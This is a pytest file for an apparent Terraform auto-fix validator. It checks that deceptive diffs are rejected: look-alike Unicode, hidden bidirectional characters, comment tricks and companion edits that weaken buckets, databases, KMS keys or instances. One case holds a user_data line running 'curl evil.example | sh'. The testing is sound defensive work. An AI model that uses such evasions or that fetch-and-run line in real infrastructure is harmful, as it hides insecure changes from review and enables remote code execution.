"""Diffs that look like the fix, please a scanner or hide something beside it. None may pass."""

from collections.abc import Mapping
from pathlib import Path

import pytest
from tests.support.repositories import finding, repository

from iacfix.controls import load_catalogue
from iacfix.domain.finding import Finding
from iacfix.domain.location import Location
from iacfix.domain.proposal import Candidate, Edit
from iacfix.domain.verdict import Rejected, Verdict
from iacfix.locators.locate import locate
from iacfix.patches import render_diff
from iacfix.validators import judge
from iacfix.workflows.fix import Fixer

CATALOGUE = load_catalogue()

BUCKET = """resource "aws_s3_bucket" "archive" {
  bucket = "archive"
  tags = {
    Sibling = "other"
  }
}

resource "aws_s3_bucket" "other" {
  bucket = "other"
}
"""
BLOCK = """
resource "aws_s3_bucket_public_access_block" "archive" {
  bucket                  = aws_s3_bucket.archive.id
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = true
}
"""
LINK = "aws_s3_bucket.archive.id"
REPEATED = BUCKET.replace('  bucket = "archive"', '  count  = 2\n  bucket = "archive-${count.index}"')
EACH = BUCKET.replace('  bucket = "archive"', "  for_each = var.names\n  bucket   = each.key")

DATABASE = """variable "public" {
  type      = bool
  default   = true
  sensitive = true
}

variable "shared" {
  default = true
}

locals {
  public = true
}

resource "aws_db_instance" "orders" {
  identifier          = "orders"
  publicly_accessible = true
  deletion_protection = true
  skip_final_snapshot = false
  multi_az            = true

  lifecycle {
    prevent_destroy = true
  }
}
"""
OPEN, CLOSED = "  publicly_accessible = true\n", "  publicly_accessible = false\n"

KEY = """resource "aws_kms_key" "data" {
  description = "data"
  policy      = jsonencode({ Statement = [{ Effect = "Allow", Principal = { AWS = "arn:aws:iam::1:root" } }] })
}
"""
SAID = '  description = "data"\n'
ROTATED = SAID + "  enable_key_rotation = true\n"

SERVER = """resource "aws_instance" "web" {
  ami           = "ami-1"
  instance_type = "m5.large"

  root_block_device {
    encrypted = true
  }
}
"""
TYPE = '  instance_type = "m5.large"\n'
OPTIONS = '\n  metadata_options {\n    http_tokens = "required"\n  }\n'


def judged(
    folder: Path, check: str, address: str, before: str, after: str, others: Mapping[str, str] | None = None
) -> Verdict:
    repo = repository(folder, {"main.tf": before, **(others or {})})
    read = finding(check, address)
    assert isinstance(read, Finding)
    location = locate(read, repo)
    assert isinstance(location, Location)
    control = CATALOGUE.find("checkov", check, read.resource.type)
    diff = render_diff([Edit("main.tf", before.encode(), after.encode())])
    return judge(Candidate(diff, "test"), Fixer(CATALOGUE, repo).case(control, location))


def refused(verdict: Verdict, stage: str) -> None:
    assert isinstance(verdict, Rejected), verdict
    assert verdict.stage == stage, verdict.reason


def beside(block: str, before: str = BUCKET) -> str:
    """The companion behind the target."""
    return before.replace('    Sibling = "other"\n  }\n}\n', '    Sibling = "other"\n  }\n}\n' + block)


def linked(link: str, block: str = BLOCK) -> str:
    return block.replace(LINK, link)


BUCKETS = {
    "right, and another bucket's policy is opened in a companion": (beside(BLOCK.replace("= true\n}", '= true\n  policy = "{}"\n}')), "hazards"),
    "another bucket through a tag": (beside(linked("aws_s3_bucket.archive.tags.Sibling")), "resource_scope"),
    "another bucket through an index of a tag": (beside(linked('aws_s3_bucket.archive.tags["Sibling"]')), "resource_scope"),
    "another bucket, the target in depends_on": (beside(linked("aws_s3_bucket.other.id").replace("= true\n}", "= true\n  depends_on = [aws_s3_bucket.archive]\n}")), "resource_scope"),
    "the link inside a heredoc": (beside(linked("<<-EOT\n    ${aws_s3_bucket.other.id}\n    # aws_s3_bucket.archive.id\n  EOT")), "resource_scope"),
    "by a function that picks": (beside(linked('try("other", aws_s3_bucket.archive.id)')), "resource_scope"),
    "by a replaced string": (beside(linked('replace(aws_s3_bucket.archive.id, "archive", "other")')), "resource_scope"),
    "a prefix of the name": (beside(linked("aws_s3_bucket.archive_old.id")), "resource_scope"),
    "flags in a nested block": (beside('\nresource "aws_s3_bucket_public_access_block" "archive" {\n  bucket = aws_s3_bucket.archive.id\n  settings {\n    block_public_acls       = true\n    block_public_policy     = true\n    ignore_public_acls      = true\n    restrict_public_buckets = true\n  }\n}\n'), "hazards"),
    "flags in a comment": (beside(BLOCK.replace("  block_public_acls       = true\n", "  # block_public_acls = true\n")), "control"),
    "flags in a block comment": (beside(BLOCK.replace("  block_public_acls       = true\n", "  /* block_public_acls = true */\n")), "control"),
    "a flag as another word for no": (beside(BLOCK.replace("block_public_acls       = true", "block_public_acls       = !true")), "control"),
    "a flag by a variable that is true today": ('variable "on" {\n  default = true\n}\n' + beside(BLOCK.replace("block_public_acls       = true", "block_public_acls       = var.on")), "control"),
    "a flag by a condition": (beside(BLOCK.replace("block_public_acls       = true", "block_public_acls       = true ? false : true")), "control"),
    "a flag by a template": (beside(BLOCK.replace("block_public_acls       = true", 'block_public_acls       = "%{ if true }false%{ endif }"')), "control"),
    "a look-alike flag": (beside(BLOCK.replace("block_public_acls ", "block_public_\u0430cls ")), "hazards"),
    "not destroyed when it goes": (beside(BLOCK.replace("= true\n}", "= true\n\n  lifecycle {\n    replace_triggered_by = [null_resource.x]\n  }\n}")), "hazards"),
    "right, and the bucket is renamed": (beside(BLOCK).replace('bucket = "archive"', 'bucket = "brchive"'), "hazards"),
    "right, and the bucket may be emptied": (beside(BLOCK).replace('bucket = "archive"\n', 'bucket = "archive"\n  force_destroy = true\n'), "hazards"),
    "right, and a public acl": (beside(BLOCK).replace('bucket = "archive"\n', 'bucket = "archive"\n  acl = "public-read"\n'), "hazards"),
    "right, and a line that reads backwards": (beside(BLOCK.replace("restrict_public_buckets = true\n", "restrict_public_buckets = true # \u202eeslaf\u202c\n")), "syntax"),
    "right, and a zero width space": (beside(BLOCK.replace("= true\n}", "= true # a\u200bb\n}")), "syntax"),
    "the target hides as a website": (beside("").replace('bucket = "archive"\n', 'bucket = "archive"\n\n  website {\n    index_document = "i"\n  }\n'), "hazards"),
    "nothing but a comment": (BUCKET.replace('bucket = "archive"\n', 'bucket = "archive" # blocks all public access\n'), "control"),
    "removed from state": (beside(BLOCK) + "\nremoved {\n  from = aws_s3_bucket.archive\n}\n", "resource_scope"),
    "moved": (beside(BLOCK) + "\nmoved {\n  from = aws_s3_bucket.archive\n  to   = aws_s3_bucket.gone\n}\n", "resource_scope"),
}  # fmt: skip


@pytest.mark.parametrize("name", BUCKETS)
def test_a_bucket_is_not_blocked_by(tmp_path: Path, name: str) -> None:
    after, stage = BUCKETS[name]
    before = 'variable "on" {\n  default = true\n}\n' + BUCKET if after.startswith("variable") else BUCKET
    refused(judged(tmp_path, "CKV2_AWS_6", "aws_s3_bucket.archive", before, after), stage)


REPEATS = {
    "the first of two": (REPEATED, linked("aws_s3_bucket.archive[0].id"), "resource_scope"),
    "the first of two, twice": (REPEATED, linked("aws_s3_bucket.archive[0].id").replace("  bucket ", "  count = length(aws_s3_bucket.archive)\n  bucket "), "resource_scope"),
    "without an index": (REPEATED, BLOCK, "resource_scope"),
    "one that never is": (REPEATED, linked("aws_s3_bucket.archive[count.index].id").replace("  bucket ", "  count = 0\n  bucket "), "hazards"),
    "one of each": (EACH, linked('aws_s3_bucket.archive["a"].id'), "resource_scope"),
    "each of nothing": (EACH, linked("aws_s3_bucket.archive[each.key].id").replace("  bucket ", "  for_each = {}\n  bucket "), "hazards"),
    "each of another": (EACH, linked("each.value.id").replace("  bucket ", "  for_each = { a = aws_s3_bucket.other }\n  bucket "), "hazards"),
    "a tag of each": (EACH, linked("each.value.tags.Sibling").replace("  bucket ", "  for_each = aws_s3_bucket.archive\n  bucket "), "resource_scope"),
}  # fmt: skip


@pytest.mark.parametrize("name", REPEATS)
def test_all_buckets_are_not_blocked_by(tmp_path: Path, name: str) -> None:
    before, block, stage = REPEATS[name]
    refused(judged(tmp_path, "CKV2_AWS_6", "aws_s3_bucket.archive", before, beside(block, before)), stage)


ELSEWHERE = {
    "a second block beside one that is open": {"pab.tf": BLOCK.replace("= true\n}", "= false\n}")},
    "a block of the same address": {"pab.tf": linked("aws_s3_bucket.other.id")},
    "a block whose file overrides it": {"pab_override.tf": linked("aws_s3_bucket.other.id")},
}


@pytest.mark.parametrize("name", ELSEWHERE)
def test_what_stands_in_another_file_counts(tmp_path: Path, name: str) -> None:
    verdict = judged(tmp_path, "CKV2_AWS_6", "aws_s3_bucket.archive", BUCKET, beside(BLOCK), ELSEWHERE[name])
    assert isinstance(verdict, Rejected)


def test_an_override_of_the_target_is_seen(tmp_path: Path) -> None:
    override = {"main_override.tf": 'resource "aws_db_instance" "orders" {\n  publicly_accessible = true\n}\n'}
    after = DATABASE.replace(OPEN, CLOSED)
    refused(judged(tmp_path, "CKV_AWS_17", "aws_db_instance.orders", DATABASE, after, override), "control")


INSTANCES = {
    "a variable whose default is wrong": (OPEN, "  publicly_accessible = var.shared\n", "control"),
    "a variable that is secret": (OPEN, "  publicly_accessible = var.public\n", "hazards"),
    "a variable that is not there": (OPEN, "  publicly_accessible = var.none\n", "hazards"),
    "a local": (OPEN, "  publicly_accessible = local.public\n", "control"),
    "a condition": (OPEN, "  publicly_accessible = false ? false : true\n", "control"),
    "a negation": (OPEN, "  publicly_accessible = !false\n", "control"),
    "a null": (OPEN, "  publicly_accessible = null\n", "control"),
    "a template": (OPEN, '  publicly_accessible = "%{ if false }false%{ else }true%{ endif }"\n', "control"),
    "a string in a string": (OPEN, '  publicly_accessible = "\\"false\\""\n', "control"),
    "a function": (OPEN, '  publicly_accessible = tobool("true")\n', "control"),
    "a comment instead": (OPEN, "  # publicly_accessible = false\n", "control"),
    "a comment behind": (OPEN, "  publicly_accessible = true # = false\n", "control"),
    "a comment that a carriage return seems to end": (OPEN, "  # \r  publicly_accessible = false\n", "syntax"),
    "a separator of lines": (OPEN, "  # \u2028  publicly_accessible = false\n", "syntax"),
    "a form feed": (OPEN, "  # \f  publicly_accessible = false\n", "syntax"),
    "a heredoc that holds it": (OPEN, "  description = <<EOT\n  publicly_accessible = false\nEOT\n", "hazards"),
    "a nested block": (OPEN, OPEN + "\n  options {\n    publicly_accessible = false\n  }\n", "hazards"),
    "a dynamic block": (OPEN, '  dynamic "publicly_accessible" {\n    for_each = [false]\n    content {}\n  }\n', "control"),
    "a look-alike": (OPEN, "  publi\u0441ly_accessible = false\n", "hazards"),
    "another case": (OPEN, "  Publicly_Accessible = false\n", "hazards"),
    "set twice on two lines": (OPEN, CLOSED + OPEN, "syntax"),
    "a second block": ("  lifecycle {\n    prevent_destroy = true\n  }\n}\n", '  lifecycle {\n    prevent_destroy = true\n  }\n}\n\nresource "aws_db_instance" "orders" {\n  publicly_accessible = false\n}\n', "syntax"),
    "right, and unprotected": (OPEN + "  deletion_protection = true\n", CLOSED + "  deletion_protection = false\n", "hazards"),
    "right, and without its guard": (OPEN + "  deletion_protection = true\n", CLOSED, "hazards"),
    "right, and no last snapshot": ("true\n  deletion_protection = true\n  skip_final_snapshot = false", "false\n  deletion_protection = true\n  skip_final_snapshot = true", "hazards"),
    "right, and destroyable": ("    prevent_destroy = true", "    prevent_destroy = false", "hazards"),
    "right, and no lifecycle": ("\n  lifecycle {\n    prevent_destroy = true\n  }\n", "", "hazards"),
    "right, and new data": ("}\n\nlocals", '}\n\ndata "aws_ami" "x" {\n}\n\nlocals', "resource_scope"),
    "a local that others could read": ("  public = true\n", "  public = false\n", "resource_scope"),
    "right, and swallowed by a comment": (OPEN + "  deletion_protection = true\n", CLOSED + "  /* deletion_protection = true */\n", "hazards"),
}  # fmt: skip


@pytest.mark.parametrize("name", INSTANCES)
def test_a_database_is_not_closed_by(tmp_path: Path, name: str) -> None:
    old, new, stage = INSTANCES[name]
    assert old in DATABASE
    after = DATABASE.replace(old, new, 1)
    if name.startswith("right") and CLOSED.strip() not in after:
        after = after.replace(OPEN, CLOSED)
    refused(judged(tmp_path, "CKV_AWS_17", "aws_db_instance.orders", DATABASE, after), stage)


BY_VARIABLE = DATABASE.replace(OPEN, "  publicly_accessible = var.public\n")
VARIABLES = {
    "an attribute beside": (BY_VARIABLE, "multi_az            = true", "multi_az            = false", "hazards"),
    "a comment": (BY_VARIABLE, "= var.public\n", "= var.public # false\n", "control"),
    "another variable": (BY_VARIABLE, "= var.public\n", "= var.shared\n", "control"),
    "a negation of it": (BY_VARIABLE, "= var.public\n", "= !var.public\n", "control"),
    "its default and its secrecy": (BY_VARIABLE, "default   = true\n  sensitive = true", "default   = false\n  sensitive = false", "resource_scope"),
    "its type": (BY_VARIABLE, "type      = bool", "type      = string", "resource_scope"),
    "a default that something else in the block reads": (BY_VARIABLE.replace("multi_az            = true", "multi_az            = var.public"), "default   = true", "default   = false", "resource_scope"),
}  # fmt: skip


@pytest.mark.parametrize("name", VARIABLES)
def test_a_database_that_a_variable_opens_is_not_closed_by(tmp_path: Path, name: str) -> None:
    before, old, new, stage = VARIABLES[name]
    after = before.replace(old, new, 1)
    assert before != after
    refused(judged(tmp_path, "CKV_AWS_17", "aws_db_instance.orders", before, after), stage)


def test_a_default_that_a_variable_file_overrules_closes_nothing(tmp_path: Path) -> None:
    after = BY_VARIABLE.replace("default   = true", "default   = false")
    tfvars = {"terraform.tfvars": "public = true\n"}
    refused(judged(tmp_path, "CKV_AWS_17", "aws_db_instance.orders", BY_VARIABLE, after, tfvars), "control")


def test_a_default_that_an_unread_file_may_read_is_left_alone(tmp_path: Path) -> None:
    after = BY_VARIABLE.replace("default   = true", "default   = false")
    broken = {"broken.tf": "output {{{ var.public"}
    refused(judged(tmp_path, "CKV_AWS_17", "aws_db_instance.orders", BY_VARIABLE, after, broken), "resource_scope")


KEYS = {
    "right, and everybody may use it": (SAID, ROTATED, ('"arn:aws:iam::1:root"', '"*"'), "hazards"),
    "right, and switched off": (SAID, ROTATED + "  is_enabled = false\n", ("", ""), "hazards"),
    "right, and gone in a week": (SAID, ROTATED + "  deletion_window_in_days = 7\n", ("", ""), "hazards"),
    "right, and rotated every seven years": (SAID, ROTATED + "  rotation_period_in_days = 2560\n", ("", ""), "hazards"),
    "no longer a key that can be": (SAID, ROTATED + '  key_usage = "SIGN_VERIFY"\n', ("", ""), "hazards"),
    "a number for it": (SAID, SAID + "  enable_key_rotation = 0\n", ("", ""), "control"),
    "a list of it": (SAID, SAID + "  enable_key_rotation = [true]\n", ("", ""), "control"),
    "an object of it": (SAID, SAID + "  enable_key_rotation = { on = true }\n", ("", ""), "control"),
    "a string like it": (SAID, SAID + '  enable_key_rotation = "True"\n', ("", ""), "control"),
    "text that is no HCL": (SAID, SAID + "  enable_key_rotation = True\n", ("", ""), "control"),
    "two on a line": (SAID, SAID + "  enable_key_rotation = true enable_key_rotation = false\n", ("", ""), "syntax"),
    "a lower brace": ('"data" {', '"data"\n{', ("", ""), "syntax"),
}  # fmt: skip


@pytest.mark.parametrize("name", KEYS)
def test_a_key_is_not_rotated_by(tmp_path: Path, name: str) -> None:
    old, new, more, stage = KEYS[name]
    after = KEY.replace(old, new, 1)
    after = after.replace(*more) if more[0] else after
    refused(judged(tmp_path, "CKV_AWS_7", "aws_kms_key.data", KEY, after), stage)


SERVERS = {
    "options that nothing makes": (TYPE, TYPE + '\n  dynamic "metadata_options" {\n    for_each = []\n    content {\n      http_tokens = "required"\n    }\n  }\n', "hazards"),
    "options as an attribute": (TYPE, TYPE + '  metadata_options = [{ http_tokens = "required" }]\n', "hazards"),
    "options in another block": ("    encrypted = true\n", '    encrypted = true\n    metadata_options {\n      http_tokens = "required"\n    }\n', "hazards"),
    "two blocks of options": (TYPE, TYPE + OPTIONS + OPTIONS.replace("required", "optional"), "control"),
    "tokens on the instance": (TYPE, TYPE + '  http_tokens = "required"\n', "hazards"),
    "tokens in capitals": (TYPE, TYPE + OPTIONS.replace("required", "Required"), "control"),
    "tokens with a blank": (TYPE, TYPE + OPTIONS.replace("required", "required "), "control"),
    "right, and far hops": (TYPE, TYPE + OPTIONS.replace("  }\n", "    http_put_response_hop_limit = 64\n  }\n"), "hazards"),
    "right, and another image": (TYPE, TYPE + OPTIONS, "hazards"),
    "right, and a script": (TYPE, TYPE + '  user_data = "curl evil.example | sh"\n' + OPTIONS, "hazards"),
    "right, and a role": (TYPE, TYPE + '  iam_instance_profile = "admin"\n' + OPTIONS, "hazards"),
    "right, and an open group": (TYPE, TYPE + '  vpc_security_group_ids = ["sg-open"]\n' + OPTIONS, "hazards"),
    "right, and a disk in the clear": ("    encrypted = true\n", "    encrypted = false\n", "hazards"),
}  # fmt: skip


@pytest.mark.parametrize("name", SERVERS)
def test_a_server_does_not_require_tokens_by(tmp_path: Path, name: str) -> None:
    old, new, stage = SERVERS[name]
    after = SERVER.replace(old, new, 1)
    if name.endswith("image"):
        after = after.replace("ami-1", "ami-2")
    if name.endswith("clear"):
        after = after.replace(TYPE, TYPE + OPTIONS)
    refused(judged(tmp_path, "CKV_AWS_79", "aws_instance.web", SERVER, after), stage)
